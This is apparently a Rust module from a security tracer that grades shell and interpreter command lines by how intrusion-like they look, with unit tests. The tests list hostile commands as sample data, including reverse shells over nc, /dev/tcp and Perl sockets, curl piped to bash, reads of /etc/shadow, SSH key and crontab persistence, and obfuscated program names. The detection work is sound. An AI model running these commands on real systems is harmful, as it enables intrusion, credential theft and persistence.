//! How bad what a shell or an interpreter is told to run is when nothing in a request explains it.
//!
//! `system` of C and PHP, `exec` of Node, backticks go through a shell whatever they run: a text that runs a program
//! of the application is no more than a launch of that. What makes it more is what brings an intruder in or on, and
//! a text with nothing in it but what one types at a prompt.

use super::{
    launched::Launched,
    names::{AROUND, LETS_IN, SESSION, TAKES_A_FILE, WRAPPERS},
    program::{
        Kind, Program, Told, asks_about_host, is_anyones, is_dropped, is_intrusion, is_reconnaissance, name,
        reads_secrets,
    },
    shell::Script,
};
use crate::Severity;
use tracer_common::exec_flag;

/// Most texts within one another that are looked into.
const MAX_DEPTH: u8 = 4;
/// Most words behind a wrapper that may be the program that it runs.
const MAX_WORDS: usize = 32;

/// What a command line says of who wrote it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Grade {
    /// An application's: it runs a program.
    Plain,
    /// Anyone's: code, or what one types at a prompt.
    Anyones,
    /// An intruder's who looks round, or hides what he does.
    Looks,
    /// An intruder's who comes in or on, whatever program runs it.
    Enters,
}

type Graded = (Grade, &'static str);

/// What one command of a text says.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Says {
    /// So much by itself, for this reason.
    Graded(Grade, &'static str),
    /// One types it at a prompt.
    Typed,
    /// Nothing: it stands around others.
    Around,
    /// It is a program of the application.
    Application,
}

/// Of a shell or an interpreter; nothing of another program.
pub fn told(launched: &Launched<'_>) -> Option<(Severity, &'static str)> {
    let kind = launched.program.kind;
    let (grade, why) = (kind != Kind::Other).then(|| grade(kind, 0))?;
    let near = launched.is_near(grade);
    if near && launched.program.text().is_some() && launched.flags & exec_flag::ARGS_CUT != 0 {
        return Some((Severity::High, "it is longer than what can be read of it"));
    }
    let high = match grade {
        Grade::Plain if near && launched.could_be_hidden() => {
            return Some((Severity::High, "its request says what cannot be read, and nothing of this"));
        }
        Grade::Plain => false,
        Grade::Anyones => near && launched.could_be_told(),
        Grade::Looks => near,
        Grade::Enters => true,
    };
    Some((if high { Severity::High } else { Severity::Medium }, why))
}

/// What a program is told to run says by itself.
pub fn grade_of(program: &Program<'_>) -> Grade {
    grade(program.kind, 0).0
}

fn grade(kind: Kind<'_>, depth: u8) -> Graded {
    match kind {
        _ if depth >= MAX_DEPTH => (Grade::Looks, "it is a shell in a shell in a shell"),
        Kind::Shell(Told::Text(text)) => of_text(text, depth),
        Kind::Interpreter(Told::Text(code)) if lets_in(code) => {
            (Grade::Enters, "its code is an argument, and is about connections or shells")
        }
        Kind::Interpreter(Told::Text(_)) => (Grade::Anyones, "its code is an argument"),
        Kind::Shell(Told::Input) if depth > 0 => {
            (Grade::Looks, "it is a shell that takes commands from another program")
        }
        Kind::Shell(Told::Input) | Kind::Interpreter(Told::Input) => {
            (Grade::Anyones, "it takes commands from its standard input")
        }
        // Applications put scripts there that they make, and run them.
        Kind::Shell(Told::File(file)) | Kind::Interpreter(Told::File(file)) if is_anyones(file) => {
            (Grade::Plain, "it runs a file that lies where anyone may put one")
        }
        Kind::Shell(Told::File(file)) | Kind::Interpreter(Told::File(file)) if is_dropped(file) => {
            (Grade::Enters, "it runs a file that lies where no application has its own")
        }
        Kind::Shell(Told::File(_)) | Kind::Interpreter(Told::File(_)) => (Grade::Plain, "it runs a file"),
        Kind::Other => (Grade::Plain, "it runs a program"),
    }
}

fn of_text(text: &str, depth: u8) -> Graded {
    let script = Script::of(text);
    if script.plants {
        return (Grade::Enters, "it writes to a file that lets someone in");
    }
    if script.connects {
        return (Grade::Enters, "it opens a network connection as if it were a file");
    }
    let says: Vec<_> = (script.programs_at())
        .map(|(at, program, args)| (script.sentence(text, at), says(program, args, depth)))
        .collect();
    let graded = says.iter().filter_map(|(_, says)| match says {
        Says::Graded(grade, why) => Some((*grade, *why)),
        _ => None,
    });
    // A program of the application explains what stands in one line with it, not what is done besides.
    let explained = |of: usize| says.iter().any(|(n, says)| *n == of && *says == Says::Application);
    let typed = says.iter().any(|(of, says)| *says == Says::Typed && !explained(*of));
    match graded.reduce(|worst, next| if next.0 > worst.0 { next } else { worst }) {
        Some(graded) if graded.0 > Grade::Anyones || !typed => graded,
        _ if typed => (Grade::Anyones, "it runs what one types at a prompt"),
        _ if says.iter().any(|(_, says)| *says == Says::Application) => {
            (Grade::Plain, "it runs a plain command")
        }
        _ if script.writes => (Grade::Anyones, "it only writes a file"),
        _ => (Grade::Plain, "it runs a plain command"),
    }
}

/// Whether code is about what lets someone in: a connection that it opens, or a shell.
fn lets_in(code: &str) -> bool {
    LETS_IN.iter().any(|all| all.iter().all(|word| code.contains(word)))
}

fn says(program: &str, args: &[String], depth: u8) -> Says {
    let own = name(program);
    if let Some(says) = graded(program, args, depth) {
        return says;
    }
    let runs = if WRAPPERS.contains(&own) { run_by(own, args) } else { Vec::new() };
    for (program, args) in &runs {
        let says = match WRAPPERS.contains(&name(program)) && depth < MAX_DEPTH {
            true => Some(says(program, args, depth + 1)),
            false => graded(program, args, depth),
        };
        if let Some(says @ Says::Graded(..)) = says {
            return says;
        }
    }
    match runs.last() {
        _ if SESSION.contains(&own) => Says::Typed,
        _ if AROUND.contains(&own) => Says::Around,
        Some((program, _)) if SESSION.contains(&name(program)) => Says::Typed,
        Some((program, _)) if AROUND.contains(&name(program)) => Says::Around,
        _ => Says::Application,
    }
}

/// What a wrapper may run: behind what `find` calls so; else the first word that is neither an option nor a number,
/// and the next one as long as that may have been an option's value (`sudo -u www-data id`).
fn run_by<'a>(wrapper: &str, args: &'a [String]) -> Vec<(&'a str, &'a [String])> {
    let at = |n: usize| args.get(n).map(|word| (word.as_str(), &args[n + 1..]));
    let words = args.iter().enumerate().take(MAX_WORDS);
    if wrapper == "find" {
        let runs = |word: &str| matches!(word, "-exec" | "-execdir" | "-ok" | "-okdir");
        return words.filter(|(_, word)| runs(word)).filter_map(|(n, _)| at(n + 1)).collect();
    }
    let is_word = |word: &str| {
        !word.is_empty()
            && !word.starts_with('-')
            && !word.contains('=')
            && !word.starts_with(char::is_numeric)
    };
    let mut found = Vec::new();
    for (n, _) in words.filter(|(_, word)| is_word(word)) {
        found.extend(at(n));
        let is_value = n.checked_sub(1).is_some_and(|before| args[before].starts_with('-'));
        let is_file = TAKES_A_FILE.contains(&wrapper) && found.len() == 1;
        if !is_value && !is_file {
            break;
        }
    }
    // What is a wrapper's own file or place is no program.
    let own = usize::from(TAKES_A_FILE.contains(&wrapper) && found.len() > 1);
    found.split_off(own)
}

/// What it says by itself, whatever stands around it.
fn graded(program: &str, args: &[String], depth: u8) -> Option<Says> {
    let line = [&[program.to_owned()], args].concat();
    let kind = Program::told(program, &line).kind;
    let (grade, why) = if kind != Kind::Other {
        let (grade, why) = grade(kind, depth + 1);
        (grade > Grade::Plain).then_some((grade, why))?
    } else if is_reconnaissance(program, args) {
        (Grade::Looks, "it asks who it is, and who is there")
    } else if reads_secrets(program, args) {
        (Grade::Looks, "it reads what opens accounts")
    } else if asks_about_host(program, args) {
        (Grade::Anyones, "it asks where it is")
    } else if is_intrusion(program, args) {
        (Grade::Enters, "it runs what brings an intruder in")
    } else if is_dropped(program) {
        (Grade::Enters, "it runs a file that lies where no application has its own")
    } else if is_hidden(program) {
        (Grade::Looks, "it hides the name of what it runs")
    } else {
        return None;
    };
    Some(Says::Graded(grade, why))
}

/// Whether a program's name is something else until the shell has expanded it (POSIX.1-2017, XCU 2.6): `/b?n/id`,
/// `cat${IFS}x`. A variable alone names a program that the application was told.
fn is_hidden(program: &str) -> bool {
    let braces = program.contains('{') && program.contains(',') && program.ends_with('}');
    !AROUND.contains(&program)
        && !program.contains("=(")
        && (program.contains(['*', '?', '['])
            || braces
            || program.get(1..).is_some_and(|rest| rest.contains('$')))
}

#[cfg(test)]
mod tests {
    use super::{
        super::launched::{Below, Room, tests::scene},
        *,
    };

    fn of(text: &str) -> Grade {
        of_text(text, 0).0
    }

    #[test]
    fn what_an_application_runs_through_a_shell() {
        for text in [
            "convert a.png -resize 10x10 b.png",
            "convert a b 2>&1",
            "/usr/sbin/sendmail -t -i",
            "cd /srv && FOO=1 nohup ./job > log 2>&1 &",
            "export LANG=C; pdftotext a.pdf - | head -1",
            "umask 022; exec /opt/x/bin/x",
            "mysqldump db | gzip > /backup/db.gz",
            "pg_dump db > /backup/db.sql",
            "ps aux | grep nginx | wc -l",
            "df -h | tail -1",
            "env LC_ALL=C git log",
            "timeout 10 ffmpeg -i a b",
            "nice -n 10 ffmpeg -i a b",
            "xargs -n1 optipng",
            "python3 /srv/report.py --all",
            "node render.js",
            "uname -s",
            "id -u",
            "command -v git",
            "which git",
            "curl -s http://h/x.gz | gunzip",
            "sudo systemctl reload nginx",
            "nc -z db 5432",
            "if test -f x; then make x; fi",
            "\"$JAVA_HOME/bin/java\" -jar x.jar",
            "sh -c 'convert a b'",
            "echo a | x",
        ] {
            assert_eq!(of(text), Grade::Plain, "{text}");
        }
    }

    #[test]
    fn what_an_intruder_runs() {
        for text in [
            "id",
            "uname -a",
            "cd /; id",
            "convert a b; id",
            "echo \"$(whoami)\" | x",
            "cat /etc/passwd",
            "grep root /etc/shadow",
            "ls -la",
            "cat config.php",
            "cd /tmp && ls",
            "touch x",
            "sleep 5",
            "date >> /tmp/x",
            "curl -s http://h/x",
            "echo '<?php' > x.php",
            "bash",
            "sh -i",
            "x | sh",
            "curl http://h/x | bash",
            "curl http://h/x -o /dev/shm/x; /dev/shm/x",
            "/tmp/x",
            "chmod 755 /tmp/x && /tmp/x",
            "bash -c 'id'",
            "bash -c \"sh -c 'id'\"",
            "timeout 5 id",
            "sudo -u www-data id",
            "env X=1 bash -c 'id'",
            "nohup setsid sh -i &",
            "find / -exec id ;",
            "xargs -n1 sh -c 'id'",
            "eval id",
            "python3 -c 'x'",
            "python3 - < x",
            "nc h 1 -e /bin/sh",
            "mkfifo f",
            "cat f | sh -i 2>&1 | nc h 1 >f",
            "exec 5<>/dev/tcp/h/1; x",
            "w\\hoami",
            "cat${IFS}x",
            "/b?n/cat x",
            "{cat,x}",
            "awk 'BEGIN{system(\"x\")}'",
        ] {
            assert!(of(text) > Grade::Plain, "{text}");
        }
    }

    #[test]
    fn how_much_it_says() {
        let cases = [
            ("ls -la", Grade::Anyones),
            ("curl -s http://h/x", Grade::Anyones),
            ("python3 -c 'print(1)' | head", Grade::Anyones),
            ("uname -a", Grade::Anyones),
            ("cd /var/www;rm -f x;echo 7b3;ls;echo 9ac", Grade::Anyones),
            ("convert a.jpg;curl h/x -o p.php", Grade::Anyones),
            ("cd /srv && touch x && make", Grade::Plain),
            ("curl -s h | gunzip > x; make", Grade::Plain),
            ("node /tmp/execjs1.js", Grade::Plain),
            ("sh /dev/shm/x", Grade::Enters),
            ("find /tmp/x -mtime +7 -delete", Grade::Anyones),
            ("flock -n /tmp/lock make all", Grade::Plain),
            ("flock /tmp/lock id", Grade::Looks),
            ("nice -n 10 ffmpeg -i /tmp/x /tmp/y", Grade::Plain),
            ("timeout 20 convert /tmp/x y", Grade::Plain),
            ("timeout -s KILL 5 /tmp/x", Grade::Enters),
            ("nohup setsid sh -i", Grade::Looks),
            ("find /srv -name users", Grade::Anyones),
            ("id -gn && id -Gn", Grade::Plain),
            ("echo x >> /root/.ssh/authorized_keys", Grade::Enters),
            ("crontab -l | x", Grade::Plain),
            ("(crontab -l; echo x) | crontab -", Grade::Enters),
            ("find /srv -exec id ;", Grade::Looks),
            ("id", Grade::Looks),
            ("cat /etc/passwd", Grade::Looks),
            ("curl http://h/x | bash", Grade::Looks),
            ("/b?n/cat x", Grade::Looks),
            ("nc h 1 -e /bin/sh", Grade::Enters),
            ("exec 5<>/dev/tcp/h/1; x", Grade::Enters),
            ("id; /tmp/x", Grade::Enters),
            ("perl -e 'use Socket;connect(S,x);exec(\"/bin/sh -i\")'", Grade::Enters),
        ];
        for (text, grade) in cases {
            assert_eq!(of(text), grade, "{text}");
        }
    }

    #[test]
    fn who_told_it_decides() {
        use Severity::{High, Medium};
        let (near, other) = (Below::Child, Below::Deeper { ordered: false });
        let unknown = Room::default();
        let room = |open| Room { open: Some(open), opaque: 0 };
        let opaque = Room { opaque: 24, ..room(24) };
        let cases: &[(&[&str], Below, Room, Severity)] = &[
            (&["sh", "-c", "ls -la /srv"], near, unknown, High),
            (&["sh", "-c", "ls -la /srv"], near, room(4), Medium),
            (&["sh", "-c", "ls -la /srv"], near, room(24), High),
            (&["python3", "-c", "print(1)"], near, room(0), Medium),
            (&["sh", "/tmp/job.sh"], near, room(4), Medium),
            (&["sh", "/tmp/job.sh"], near, room(40), Medium),
            (&["sh", "/tmp/job.sh"], near, opaque, High),
            (&["bash", "-s"], near, room(0), Medium),
            (&["bash", "-s"], near, room(2), High),
            (&["sh", "-c", "uname -a"], near, room(0), Medium),
            (&["sh", "-c", "uname -a"], near, room(8), High),
            (&["sh", "-c", "ip addr show | grep inet"], near, room(6), Medium),
            (&["sh", "-c", "tar -czf /srv/x /etc"], near, opaque, High),
            (&["sh", "-c", "tar -czf /srv/x /etc"], near, room(24), Medium),
            (&["sh", "-c", "cc x.c"], other, opaque, Medium),
            (&["sh", "-c", "id"], other, unknown, Medium),
            (&["sh", "-c", "ls"], other, unknown, Medium),
            (&["sh", "-c", "sh -i >& /dev/tcp/h/1"], other, unknown, High),
            (&["sh", "-c", "convert a b | head"], near, unknown, Medium),
        ];
        for (args, below, room, severity) in cases {
            let told = scene(args).ask(|launched| {
                let launched = Launched { below: *below, room: *room, ..launched.clone() };
                super::told(&launched).map(|(severity, _)| severity)
            });
            assert_eq!(told, Some(*severity), "{args:?}");
        }
    }

    #[test]
    fn texts_within_texts_end() {
        let mut text = "x".to_owned();
        for _ in 0..MAX_DEPTH {
            text = format!("sh -c {}", text.replace('\\', "\\\\").replace(' ', "\\ "));
        }
        assert_eq!(of(&text), Grade::Looks);
        assert_eq!(of(&"env ".repeat(1000)), Grade::Plain);
    }
}
